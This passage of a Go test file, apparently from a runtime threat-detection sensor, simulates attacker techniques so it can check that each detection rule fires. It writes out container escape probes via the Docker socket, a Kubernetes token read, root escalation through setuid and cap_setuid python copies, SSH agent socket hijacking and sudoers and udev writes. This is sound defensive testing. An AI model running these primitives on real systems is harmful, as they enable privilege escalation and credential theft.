	{rule: "Namespace entered from a container", tech: "T1611", container: true, needs: []string{"nsenter"},
		script: "nsenter -t $$ -m true", mark: "nsenter"},
	{rule: "Filesystem mounted from inside a container", tech: "T1611", container: true,
		script: "mkdir -p {tmp}/m; mount -t tmpfs ttpw {tmp}/m; umount {tmp}/m", after: "umount {tmp}/m 2>/dev/null; true"},
	{rule: "Container runtime socket used from a container", tech: "T1611", container: true, needs: []string{"curl"},
		script: "curl -s -m 1 --unix-socket /var/run/docker.sock http://localhost/containers/json; true", mark: "docker.sock"},
	{rule: "Container or orchestrator discovery from a container", tech: "T1613", container: true,
		script: "cat /proc/1/cgroup > /dev/null", mark: "/proc/1/cgroup"},
	{rule: "Kubernetes service account token read", tech: "T1528", container: true,
		script: "[ -d /run/secrets ] || { mkdir /run/secrets && : > {dir}/created-run-secrets; }; " +
			"mkdir -p /run/secrets/kubernetes.io/serviceaccount; echo t > /run/secrets/kubernetes.io/serviceaccount/token; " +
			"cat /run/secrets/kubernetes.io/serviceaccount/token > /dev/null",
		mark:  "serviceaccount/token",
		after: "rm -rf /run/secrets/kubernetes.io; if [ -e {dir}/created-run-secrets ]; then rmdir /run/secrets; fi"},

	// Kernel-facing primitives.
	{rule: "BPF program loaded by an unexpected process", tech: "T1014", needs: []string{"python3", "amd64"},
		script: python + ` -c '` + bpfProgLoad + `'`, mark: "python3"},
	// a python copy with cap_setuid+ep, run as nobody (not root, not
	// setuid-root), becomes root
	{rule: "Root gained by a process that was not root", tech: "T1548", needs: []string{"python3", "setcap", "setpriv"},
		script: "cp /usr/bin/python3 {shm}/ttpw-capy; setcap cap_setuid+ep {shm}/ttpw-capy; " +
			`setpriv --reuid=65534 --regid=65534 --clear-groups -- {shm}/ttpw-capy -c "import os;os.setuid(0)"; rm -f {shm}/ttpw-capy`,
		mark: "ttpw-capy", after: "rm -f {shm}/ttpw-capy"},
	{rule: "Dropped program became root", tech: "T1068", needs: []string{"python3"},
		script: "cp /usr/bin/python3 {shm}/pysuid; chmod 4755 {shm}/pysuid; " +
			`setpriv --reuid=65534 --regid=65534 --clear-groups -- {shm}/pysuid -c "import os;os.setuid(0)"; rm -f {shm}/pysuid`,
		mark: "pysuid", after: "rm -f {shm}/pysuid"},
	{rule: "SSH agent socket used by root on behalf of another login", tech: "T1563.001",
		needs: []string{"python3", "/proc/self/loginuid"}, script: agentHijack, mark: "agent.1",
		after: "rm -rf /tmp/ssh-ttpwatch-attacks"},
	{rule: "Udev rule written", tech: "T1546.017", needs: []string{"/etc"},
		script: "[ -d /etc/udev/rules.d ] || { mkdir -p /etc/udev/rules.d && : > {dir}/created-udev; }; " +
			"echo '#' > /etc/udev/rules.d/99-ttpwatch-attacks.rules; rm -f /etc/udev/rules.d/99-ttpwatch-attacks.rules",
		mark:  "99-ttpwatch-attacks.rules",
		after: "rm -f /etc/udev/rules.d/99-ttpwatch-attacks.rules; if [ -e {dir}/created-udev ]; then rmdir /etc/udev/rules.d; fi"},
	{rule: "Keyboard input device read", tech: "T1056.001",
		script: "[ -d /dev/input ] || { mkdir /dev/input && : > {dir}/created-input; }; " +
			"echo x > /dev/input/event-ttpwatch; cat /dev/input/event-ttpwatch > /dev/null; rm -f /dev/input/event-ttpwatch",
		mark:  "event-ttpwatch",
		after: "rm -f /dev/input/event-ttpwatch; if [ -e {dir}/created-input ]; then rmdir /dev/input; fi"},
	{rule: "Audio or video device opened", tech: "T1123",
		script: "[ -d /dev/snd ] || { mkdir /dev/snd && : > {dir}/created-snd; }; " +
			"echo x > /dev/snd/pcmC9D9c; cat /dev/snd/pcmC9D9c > /dev/null; rm -f /dev/snd/pcmC9D9c",
		mark:  "pcmC9D9c",
		after: "rm -f /dev/snd/pcmC9D9c; if [ -e {dir}/created-snd ]; then rmdir /dev/snd; fi"},
	{rule: "Sudoers file modified", tech: "T1548.003",
		script: "[ -d /etc/sudoers.d ] || { mkdir /etc/sudoers.d && : > {dir}/created-sudoers-d; }; " +
			": > /etc/sudoers.d/ttpwatch-attacks; rm -f /etc/sudoers.d/ttpwatch-attacks",
		mark:  "ttpwatch-attacks",
		after: "rm -f /etc/sudoers.d/ttpwatch-attacks; if [ -e {dir}/created-sudoers-d ]; then rmdir /etc/sudoers.d; fi"},
}

// bpfProgLoad is Python that loads a two-instruction socket filter
// (r0 = 0; exit) through bpf(BPF_PROG_LOAD) and closes it.
const bpfProgLoad = `import ctypes,struct,os;` +
	`i=ctypes.create_string_buffer(struct.pack("<BBhiBBhi",0xb7,0,0,0,0x95,0,0,0));` +
	`g=ctypes.create_string_buffer(b"GPL");` +
	`a=ctypes.create_string_buffer(struct.pack("<IIQQIIQ",1,2,ctypes.addressof(i),ctypes.addressof(g),0,0,0),128);` +
	`fd=ctypes.CDLL(None).syscall(321,5,a,128);fd>=0 and os.close(fd)`

// agentHijack listens on a fake agent socket, then connects to it from a
// root shell whose audit login uid is another user's (1000), as root does
// when it borrows a logged-in user's forwarded agent.
const agentHijack = `mkdir -p /tmp/ssh-ttpwatch-attacks
` + python + ` -c 'import socket,sys,time;s=socket.socket(socket.AF_UNIX);s.bind(sys.argv[1]);s.listen(1);time.sleep(5)' /tmp/ssh-ttpwatch-attacks/agent.1 &
L=$!
sleep 0.5
sh -c 'echo 1000 > /proc/self/loginuid; exec ` + python + ` -c "import socket,sys;socket.socket(socket.AF_UNIX).connect(sys.argv[1])" /tmp/ssh-ttpwatch-attacks/agent.1'
kill $L`

// notLive lists rules without a live case, with the reason.
var notLive = map[string]string{
	"Kernel module loaded": "init_module/finit_module tracepoints are absent on kernels without " +
		"module support for them, and loading a real module is not a safe action",
}

// execEmptyArgv executes path with an empty argument vector, as PwnKit
// does, and waits for it.
func execEmptyArgv(path string) error {
	pid, err := syscall.ForkExec(path, []string{}, &syscall.ProcAttr{Env: []string{}, Files: []uintptr{0, 1, 2}})
	if err != nil {
		return err
	}
	var ws syscall.WaitStatus
	_, err = syscall.Wait4(pid, &ws, 0, nil)
	return err
}

// newContainerCgroup creates a cgroup v2 directory named like a docker
// container's systemd scope; processes moved into it are attributed to a
// container by the sensor's cgroup-path parsing.
func newContainerCgroup() (string, error) {
	root := "/sys/fs/cgroup/unified"
	if _, err := os.Stat(filepath.Join(root, "cgroup.procs")); err != nil {
		root = "/sys/fs/cgroup"
		if _, err := os.Stat(filepath.Join(root, "cgroup.procs")); err != nil {
			return "", fmt.Errorf("no cgroup v2 hierarchy")
		}
	}
	id := make([]byte, 32)
	if _, err := rand.Read(id); err != nil {
		return "", err
	}
	dir := filepath.Join(root, "docker-"+hex.EncodeToString(id)+".scope")
	return dir, os.Mkdir(dir, 0o755)
}

// missing returns the first requirement of c this host lacks.
func missing(c *attackCase) string {
	for _, n := range c.needs {
		switch {
		case n == "amd64":
			if runtime.GOARCH != "amd64" {
				return "an amd64 host"
			}
		case strings.HasPrefix(n, "port:"):
			// The case listens itself; checked when it runs.
		case strings.HasPrefix(n, "/"):
			if _, err := os.Stat(n); err != nil {
				return n
			}
		case n == "python3":
			if _, err := os.Stat(python); err != nil {
				return python
			}
		default:
			if _, err := exec.LookPath(n); err != nil {
				return n
			}
		}
	}
	return ""
}

// TestAttacks performs every case and asserts its alert.
func TestAttacks(t *testing.T) {
	l := getLab(t)
	for i := range cases {
		c := &cases[i]
		t.Run(slug(c.rule), func(t *testing.T) {
			if m := missing(c); m != "" {
				t.Skipf("needs %s", m)
			}
			for _, n := range c.needs {
				if p, ok := strings.CutPrefix(n, "port:"); ok {
					ln, err := listenLoopback(p)
					if err != nil {
						t.Skipf("loopback port %s busy: %v", p, err)
					}
					defer ln.Close()
				}
			}
			bin, err := l.standIns(t, c)
			if err != nil {
				t.Fatal(err)
			}
			if c.after != "" {
				defer func() { _ = exec.Command("/bin/sh", "-c", l.expand(c.after, bin)).Run() }()
			}
			script := c.script
			if c.container {
				cg, err := newContainerCgroup()
				if err != nil {
					t.Skipf("cannot make a container cgroup: %v", err)
				}
				defer func() { _ = os.Remove(cg) }()
				script = "echo $$ > " + filepath.Join(cg, "cgroup.procs") + "\n" + script
			}
			start := time.Now().Add(-time.Second).UnixNano()
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			if c.action != nil {
				err = c.action(l, bin)
			} else {
				err = l.detach(ctx, c.user, l.expand(script, bin))
			}
			if err != nil {
				t.Fatalf("action: %v", err)
			}
			mark := l.expand(c.mark, bin)
			a := l.w.await(c.rule, start, func(a *alert) bool { return strings.Contains(a.Output, mark) })
			if a == nil {
				t.Fatalf("rule %q did not fire (output containing %q); rules that fired meanwhile: %v",
					c.rule, mark, l.w.rulesSeen(start))
			}
			if !a.hasTag(c.tech) {
				t.Errorf("alert of %q lacks technique tag %s: %v", c.rule, c.tech, a.Tags)
			}
		})
	}
}

// TestSeedRuleRootDoesNotFire checks the seed's user condition live: root
// running chattr +i does not fire it, a non-root user right after does.
func TestSeedRuleRootDoesNotFire(t *testing.T) {
	l := getLab(t)
	const seed = "Disable recovery features"
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	file := filepath.Join(l.tmp, "seed-root")
	if err := os.WriteFile(file, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = exec.Command("chattr", "-i", file).Run() }()
	rootStart := time.Now().Add(-time.Second).UnixNano()
	if err := l.detach(ctx, "", "chattr +i "+file+"; chattr -i "+file); err != nil {
		t.Fatalf("root action: %v", err)
	}
	// The sentinel is a non-root chattr; the companion rule names the file,
	// so its alert marks the point by which the root alert would have come.
	sentinelStart := time.Now().UnixNano()
	if err := l.detach(ctx, "nobody", "chattr +i "+file+"-sentinel 2>/dev/null; true"); err != nil {
		t.Fatalf("sentinel action: %v", err)
	}
	s := l.w.await("Inhibit system recovery", sentinelStart-int64(time.Second), func(a *alert) bool {
		return strings.Contains(a.Output, "seed-root-sentinel")
	})
	if s == nil {
		t.Fatalf("sentinel alert missing; rules fired: %v", l.w.rulesSeen(rootStart))
	}
	if a := l.w.find(seed, rootStart, func(a *alert) bool { return a.evtTime() < s.evtTime() }); a != nil {
		t.Errorf("seed rule fired for root's chattr +i: %s", a.line)
	}
	if a := l.w.find(seed, s.evtTime(), nil); a == nil {
		t.Errorf("seed rule did not fire for the non-root sentinel")
	}
}

// TestEveryRuleHasALiveCase keeps the suite complete: each default rule has a
// live case or a stated reason why it cannot have one.
func TestEveryRuleHasALiveCase(t *testing.T) {
	rs, err := ruleset.LoadDefaults()
	if err != nil {
		t.Fatal(err)
	}
	have := map[string]bool{}
	for _, c := range cases {
		have[c.rule] = true
	}
	for _, r := range rs.Rules {
		if !have[r.Name] && notLive[r.Name] == "" {
			t.Errorf("rule %q has no live case in test/attacks", r.Name)
		}
		delete(have, r.Name)
	}
	for name := range have {
		t.Errorf("live case for %q, which is not a default rule", name)
	}
}
